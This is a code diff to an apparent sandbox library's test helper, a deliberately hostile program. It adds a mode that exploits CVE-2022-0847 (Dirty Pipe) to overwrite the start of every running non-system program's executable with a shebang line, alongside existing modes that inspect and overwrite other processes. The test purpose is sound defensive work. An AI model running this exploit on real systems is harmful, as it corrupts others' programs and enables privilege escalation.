@@ -2,11 +2,12 @@
 // A hostile program for the tests of this library: a static one that needs nothing of a root.
 //   attack fds                    the numbers of its open descriptors, without opening a directory
 //   attack call 64|32|x32 N ARG…  a raw system call's result; "@text" is a string's address,
-//                                 "#1,2" that of an array, "$DIR" a descriptor of a directory
+//                                 "%1,2" that of an array, "$DIR" a descriptor of a directory
 //   attack exchange A B           "ready", then exchanges two names until it is killed
 //   attack inspect PID            what it gets of another process
 //   attack watch                  "ready", then looks at each process that comes, before its execve
 //   attack overwrite              "ready", then writes to every foreign program that runs here
+//   attack splice                 the same through pages of the program in a pipe
 #include <array>
 #include <cerrno>
 #include <csignal>
@@ -62,7 +63,7 @@ long argument_of(const std::string& word) {
         std::memcpy(text, word.c_str() + 1, word.size());
         return reinterpret_cast<long>(text);
     }
-    if (word.starts_with('#')) {
+    if (word.starts_with('%')) {
         auto* numbers = static_cast<std::uint32_t*>(low_memory());
         std::size_t size = 0;
         for (const char* rest = word.c_str(); *rest != '\0';) {
@@ -231,6 +232,38 @@ template <class Look>
     });
 }
 
+// CVE-2022-0847: a page of a file that is in a pipe was written to in place where the pipe's buffer
+// had been one that may grow.
+bool splice_over(int file) {
+    std::array<int, 2> pipe{};
+    if (::pipe2(pipe.data(), O_NONBLOCK) < 0) {
+        return false;
+    }
+    std::array<char, 4096> block{};
+    while (::write(pipe[1], block.data(), block.size()) > 0) {
+    }
+    while (::read(pipe[0], block.data(), block.size()) > 0) {
+    }
+    off64_t first = 0;
+    const bool done = ::splice(file, &first, pipe[1], nullptr, 1, 0) == 1 &&
+                      ::write(pipe[1], "#!/bin/attack\n", 14) == 14;
+    ::close(pipe[0]);
+    ::close(pipe[1]);
+    return done;
+}
+
+[[noreturn]] void splice_over_programs() {
+    look_at_all_processes([](const std::string& process) {
+        int fd = ::open((process + "/exe").c_str(), O_RDONLY);
+        if (fd >= 0 && !link_of(process + "/exe").starts_with("/bin/") && splice_over(fd)) {
+            say("spliced");
+        }
+        if (fd >= 0) {
+            ::close(fd);
+        }
+    });
+}
+
 } // namespace
 
 int main(int count, char** values) {
@@ -253,6 +286,9 @@ int main(int count, char** values) {
     }
     if (what == "overwrite") {
         overwrite();
+    }
+    if (what == "splice") {
+        splice_over_programs();
     }
     say("usage: see the source");
     return 2;
